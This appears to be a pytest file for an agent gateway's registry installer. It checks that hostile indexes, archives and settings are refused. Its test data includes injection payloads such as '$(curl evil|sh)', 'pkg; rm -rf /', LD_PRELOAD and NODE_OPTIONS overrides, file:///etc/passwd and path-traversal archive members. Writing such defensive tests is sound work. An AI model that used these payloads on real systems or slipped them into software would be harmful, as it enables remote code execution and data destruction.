"""The ACP registry index as untrusted data (agents.registry.index), the install plan (a pure function of an entry
and a version), the install manifest's verdicts, the written profile, and `agents refresh`/`add` refusing hostile
input whole — nothing changed, one clear line."""

from __future__ import annotations

import io
import os
import subprocess
import sys
import tarfile
import tomllib
from pathlib import Path
from typing import Any

import orjson
import pytest

from agents.registry import installer, installs, manifest
from agents.registry.index import MAX_INDEX_BYTES, SNAPSHOT, RegistryEntry, RegistryError, parse_index
from tests.support.paths import REPO

ROOT = REPO


def entry(**over: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"id": "good-agent", "name": "Good", "version": "1.2.3", "description": "an agent",
                            "distribution": {"npx": {"package": "@scope/good-agent@1.2.3", "args": ["--acp"]}}}
    base.update(over)
    return base


def index_of(*entries: dict[str, Any]) -> bytes:
    return orjson.dumps({"version": "1.0.0", "agents": list(entries)})


def test_the_shipped_snapshot_is_a_valid_index_with_npx_uvx_and_binary_agents() -> None:
    index = parse_index(SNAPSHOT.read_bytes(), "snapshot")
    kinds = {k for a in index.agents for k in a.kinds()}
    assert kinds == {"npx", "uvx", "binary"}
    assert len({a.id for a in index.agents}) == len(index.agents) >= 15
    assert [a.id for a in index.search("claude")] == ["claude-acp"]
    assert index.get("pi-acp") is not None and index.get("nope") is None


HOSTILE: list[tuple[str, bytes, str]] = [
    ("not JSON", b"{\"agents\": [", "not JSON"),
    ("not an index", b"[1, 2]", "not a registry index"),
    ("agents not a list", b"{\"agents\": {}}", "not a registry index"),
    ("path traversal in id", index_of(entry(id="../../etc")), "not of the registry's form"),
    ("id with a slash", index_of(entry(id="a/b")), "not of the registry's form"),
    ("upper-case id", index_of(entry(id="Agent")), "not of the registry's form"),
    ("npm package as a path", index_of(entry(distribution={"npx": {"package": "../../evil"}})), "npm package"),
    ("npm package as a URL", index_of(entry(distribution={"npx": {"package": "git+https://x.example/e.git"}})),
     "npm package"),
    ("npm package as an option", index_of(entry(distribution={"npx": {"package": "--registry=https://evil"}})),
     "npm package"),
    ("npm version range", index_of(entry(distribution={"npx": {"package": "good@^1.0.0"}})), "exact version"),
    ("pypi package with a command", index_of(entry(distribution={"uvx": {"package": "pkg; rm -rf /"}})),
     "PyPI package"),
    ("pypi package with a marker", index_of(entry(distribution={"uvx": {"package": "pkg==1 ; python_version>'3'"}})),
     "exact version"),
    ("command substitution in args", index_of(entry(distribution={"npx": {"package": "good@1.0.0",
                                                                         "args": ["$(curl evil|sh)"]}})),
     "shell syntax"),
    ("a separator in args", index_of(entry(distribution={"npx": {"package": "good@1.0.0", "args": ["--acp; id"]}})),
     "shell syntax"),
    ("a newline in args", index_of(entry(distribution={"npx": {"package": "good@1.0.0", "args": ["a\nb"]}})),
     "shell syntax"),
    ("LD_PRELOAD", index_of(entry(distribution={"npx": {"package": "good@1.0.0",
                                                        "env": {"LD_PRELOAD": "/tmp/x.so"}}})), "refused"),
    ("NODE_OPTIONS", index_of(entry(distribution={"npx": {"package": "good@1.0.0",
                                                          "env": {"NODE_OPTIONS": "--require /tmp/x"}}})), "refused"),
    ("the gateway's own variables", index_of(entry(distribution={"npx": {"package": "good@1.0.0",
                                                                         "env": {"ACP_GATEWAY_TOKEN": "x"}}})),
     "refused"),
    ("absolute cmd", index_of(entry(distribution={"binary": {"linux-x86_64": {
        "archive": "https://x.example/a.tar.gz", "cmd": "/bin/sh"}}})), "relative path"),
    ("cmd out of the archive", index_of(entry(distribution={"binary": {"linux-x86_64": {
        "archive": "https://x.example/a.tar.gz", "cmd": "./../../bin/sh"}}})), "relative path"),
    ("plain http archive", index_of(entry(distribution={"binary": {"linux-x86_64": {
        "archive": "http://x.example/a.tar.gz", "cmd": "./a"}}})), "https"),
    ("file archive", index_of(entry(distribution={"binary": {"linux-x86_64": {
        "archive": "file:///etc/passwd", "cmd": "./a"}}})), "https"),
    ("unknown platform", index_of(entry(distribution={"binary": {"plan9-mips": {
        "archive": "https://x.example/a.tar.gz", "cmd": "./a"}}})), "binary"),
    ("too many args", index_of(entry(distribution={"npx": {"package": "good@1.0.0", "args": ["a"] * 65}})),
     "at most 64"),
    ("a huge description", index_of(entry(description="x" * 5000)), "at most 4096"),
    ("a listed-twice id", index_of(entry(), entry()), "listed twice"),
    ("a huge file", b" " * (MAX_INDEX_BYTES + 1), "at most"),
]


@pytest.mark.parametrize(("raw", "said"), [(raw, said) for _, raw, said in HOSTILE],
                         ids=[name for name, _, _ in HOSTILE])
def test_a_hostile_index_is_refused_with_one_clear_line(raw: bytes, said: str) -> None:
    with pytest.raises(RegistryError) as refused:
        parse_index(raw, "given.json")
    message = str(refused.value)
    assert message.startswith("given.json: ") and said in message and "\n" not in message


def test_newer_keys_of_an_entry_are_ignored_and_an_unknown_distribution_is_listed_not_installed() -> None:
    index = parse_index(index_of(entry(website="https://x.example", preview={"version": "9"},
                                       distribution={"bunx": {"package": "x"}})), "newer.json")
    assert index.agents[0].kinds() == []
    with pytest.raises(installer.InstallError, match="nothing this gateway installs"):
        installer.plan(index.agents[0])


def _entry(**over: Any) -> RegistryEntry:
    return RegistryEntry.model_validate(entry(**over))


PLANS = [  # (distribution, version asked, kind asked) -> (kind, package, version)
    ({"npx": {"package": "@s/a@1.2.3"}}, None, None, ("npx", "@s/a", "1.2.3")),
    ({"npx": {"package": "@s/a@1.2.3"}}, "2.0.0", None, ("npx", "@s/a", "2.0.0")),
    ({"npx": {"package": "@s/a"}}, None, None, ("npx", "@s/a", "1.2.3")),  # no version in the spec: the entry's
    ({"uvx": {"package": "minion-code@0.1.8"}}, None, None, ("uvx", "minion-code", "0.1.8")),
    ({"uvx": {"package": "hermes[acp]==0.4.0"}}, None, None, ("uvx", "hermes[acp]", "0.4.0")),
    ({"npx": {"package": "a@1.0.0"}, "uvx": {"package": "a==1.0.0"}}, None, "uvx", ("uvx", "a", "1.0.0")),
]


@pytest.mark.parametrize(("distribution", "version", "kind", "expected"), PLANS)
def test_the_install_plan_pins_the_version_asked_else_the_spec_else_the_entry(
        distribution: dict[str, Any], version: str | None, kind: str | None, expected: tuple[str, str, str]) -> None:
    plan = installer.plan(_entry(distribution=distribution), version, kind)
    assert (plan.kind, plan.package, plan.version) == expected


def test_a_binary_plan_needs_this_platform_and_the_entrys_own_version() -> None:
    other = _entry(distribution={"binary": {"windows-aarch64": {"archive": "https://x.example/a.zip", "cmd": "a"}}})
    with pytest.raises(installer.InstallError, match="has nothing this gateway installs"):
        installer.plan(other)
    here = _entry(distribution={"binary": {installer.platform_key(): {"archive": "https://x.example/a.tgz",
                                                                       "cmd": "./bin/a"}}})
    assert installer.plan(here).cmd == "./bin/a"
    with pytest.raises(installer.InstallError, match="another version cannot be resolved"):
        installer.plan(here, "9.9.9")
    with pytest.raises(installer.InstallError, match="has no npx distribution"):
        installer.plan(here, None, "npx")


def test_the_manifest_tells_changed_added_removed_and_retargeted_but_not_a_touch(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "lib").mkdir(parents=True)
    (tree / "lib" / "a.js").write_text("one")
    (tree / "lib" / "b.js").write_text("two")
    (tree / "link").symlink_to("lib/a.js")
    taken = manifest.take(tree)
    assert manifest.verify(tree, taken) == []
    os.utime(tree / "lib" / "a.js", ns=(1, 1))  # a touch: same content
    assert manifest.verify(tree, taken) == []
    (tree / "lib" / "a.js").write_text("ONE")  # same size, other bytes
    (tree / "lib" / "b.js").unlink()
    (tree / "lib" / "c.js").write_text("new")
    (tree / "link").unlink()
    (tree / "link").symlink_to("lib/c.js")
    found = {(c.path, c.what) for c in manifest.verify(tree, taken)}
    assert found == {("lib/a.js", "changed"), ("lib/b.js", "removed"), ("lib/c.js", "added"),
                     ("link", "retargeted")}


def test_the_written_profile_launches_the_install_and_quotes_what_it_is_given(tmp_path: Path) -> None:
    record = installs.InstallRecord(id="odd", name='Odd "quoted" \\ name', version="1.0.0", kind="npx", package="odd",
                                    command=["node_modules/.bin/odd"], env={"ODD_MODE": 'a "b" \\c'})
    text = installer._profile_toml(record, tmp_path / "odd" / "1.0.0", ["--acp"])
    data = tomllib.loads(text)
    assert data["name"] == 'Odd "quoted" \\ name' and data["env"] == {"ODD_MODE": 'a "b" \\c'}
    assert data["command"] == [str(tmp_path / "odd" / "1.0.0" / "tree" / "node_modules/.bin/odd"), "--acp"]
    assert data["version"] == "1.0.0" and data["install"] == str(tmp_path / "odd" / "1.0.0")


def test_a_known_agent_keeps_what_the_shipped_profile_knows_of_restoring_it(tmp_path: Path) -> None:
    record = installs.InstallRecord(id="gemini", version="0.37.1", kind="npx", package="@google/gemini-cli",
                                    command=["node_modules/.bin/gemini"])
    data = tomllib.loads(installer._profile_toml(record, tmp_path, ["--acp"]))
    assert data["native_session_resume"] is False  # gemini boots idle (agents/profiles/gemini.toml)


def cli(state: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gateway", "agents", *args, "--state-dir", str(state)],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)


@pytest.mark.parametrize("name", ["path traversal in id", "command substitution in args", "LD_PRELOAD",
                                  "not JSON", "a huge file"])
def test_refresh_refuses_a_hostile_index_whole_and_keeps_the_one_there(tmp_path: Path, name: str) -> None:
    state = tmp_path / "state"
    good = tmp_path / "good.json"
    good.write_bytes(index_of(entry()))
    assert cli(state, "refresh", "--from", str(good)).returncode == 0
    before = (state / "agents" / "registry.json").read_bytes()
    hostile = tmp_path / "hostile.json"
    hostile.write_bytes(next(raw for n, raw, _ in HOSTILE if n == name))
    refused = cli(state, "refresh", "--from", str(hostile))
    assert refused.returncode == 2 and refused.stderr.startswith("acp-gateway agents refresh: ")
    assert "Traceback" not in refused.stderr and len(refused.stderr.splitlines()) == 1
    assert (state / "agents" / "registry.json").read_bytes() == before
    assert [p.name for p in (state / "agents").iterdir()] == ["registry.json"]


def test_add_refuses_unknown_ids_and_versions_that_are_not_versions(tmp_path: Path) -> None:
    state = tmp_path / "state"
    unknown = cli(state, "add", "claude")
    assert unknown.returncode == 2 and "did you mean claude-acp" in unknown.stderr
    odd = cli(state, "add", "pi-acp@../../x")
    assert odd.returncode == 2 and "'../../x' is not a version" in odd.stderr
    assert not (state / "agents" / "installs").exists()


def _archive(path: Path, members: dict[str, bytes], link: tuple[str, str] | None = None) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
        if link is not None:
            info = tarfile.TarInfo(link[0])
            info.type, info.linkname = tarfile.SYMTYPE, link[1]
            tar.addfile(info)
    return path


def _binary_index(tmp_path: Path, state: Path) -> None:
    index = tmp_path / "index.json"
    index.write_bytes(index_of(entry(id="bin-agent", distribution={"binary": {installer.platform_key(): {
        "archive": "https://downloads.example/bin-agent-1.2.3.tar.gz", "cmd": "./bin-agent", "args": ["acp"]}}})))
    assert cli(state, "refresh", "--from", str(index)).returncode == 0


def test_a_binary_needs_a_checksum_supplied_or_trusted_on_first_use_and_reinstalls_must_match(tmp_path: Path) -> None:
    state = tmp_path / "state"
    _binary_index(tmp_path, state)
    archive = _archive(tmp_path / "bin-agent-1.2.3.tar.gz", {"bin-agent": b"#!/bin/sh\necho hi\n"})
    digest = manifest.sha256_file(archive)
    plain = cli(state, "add", "bin-agent", "--archive", str(archive), "--no-probe")
    assert plain.returncode == 2 and "--trust-on-first-use" in plain.stderr and "--sha256" in plain.stderr
    wrong = cli(state, "add", "bin-agent", "--archive", str(archive), "--sha256", "0" * 64, "--no-probe")
    assert wrong.returncode == 2 and f"has SHA-256 {digest}, not {'0' * 64}" in wrong.stderr
    assert not (state / "agents" / "installs" / "bin-agent" / "1.2.3").exists()
    first = cli(state, "add", "bin-agent", "--archive", str(archive), "--trust-on-first-use", "--no-probe")
    assert first.returncode == 0, first.stderr
    assert f"archive sha256 {digest} (first-use)" in first.stdout
    record = installs.read_record(state / "agents" / "installs" / "bin-agent" / "1.2.3")
    assert record.archive_sha256 == digest and record.archive_trust == "first-use"
    (tmp_path / "other").mkdir()
    other = _archive(tmp_path / "other" / "bin-agent-1.2.3.tar.gz", {"bin-agent": b"#!/bin/sh\necho evil\n"})
    again = cli(state, "add", "bin-agent", "--archive", str(other), "--force", "--no-probe")
    assert again.returncode == 2 and f"not {digest}" in again.stderr
    listing = {r["id"]: r for r in orjson.loads(cli(state, "list", "--json").stdout)}
    assert listing["bin-agent"]["command"].endswith("/bin-agent/1.2.3/tree/bin-agent acp")


def test_an_archive_reaching_outside_itself_is_refused(tmp_path: Path) -> None:
    state = tmp_path / "state"
    _binary_index(tmp_path, state)
    archive = _archive(tmp_path / "evil.tar.gz", {"bin-agent": b"x", "../../escaped": b"x"})
    refused = cli(state, "add", "bin-agent", "--archive", str(archive), "--trust-on-first-use", "--no-probe")
    assert refused.returncode == 2 and "could not be unpacked safely" in refused.stderr
    assert not (tmp_path / "escaped").exists() and not (state / "agents" / "installs" / "bin-agent" / "1.2.3").exists()


def test_settings_survive_and_cannot_replace_what_the_install_launches(tmp_path: Path) -> None:
    state = tmp_path / "state"
    _binary_index(tmp_path, state)
    archive = _archive(tmp_path / "a.tar.gz", {"bin-agent": b"#!/bin/sh\n"})
    assert cli(state, "add", "bin-agent", "--archive", str(archive), "--trust-on-first-use",
               "--no-probe").returncode == 0
    settings = state / "agents" / "installs" / "bin-agent" / "settings.toml"
    settings.write_text('permission_policy = "deny_all"\nenv = { A_KEY = { env = "MY_A_KEY" } }\n')
    profile = installs.profile_at(state, "bin-agent", "1.2.3")
    assert profile is not None and profile.permission_policy == "deny_all"
    assert profile.resolved_env({"MY_A_KEY": "k"}) == {"A_KEY": "k"}
    settings.write_text('command = ["/bin/sh"]\n')
    listed = cli(state, "list")
    assert listed.returncode == 0 and "bin-agent" not in listed.stdout  # a broken settings file: not launched
    from agents.profiles import ProfileError

    with pytest.raises(ProfileError, match="key 'command' is the install's own"):
        installs.profile_at(state, "bin-agent", "1.2.3")
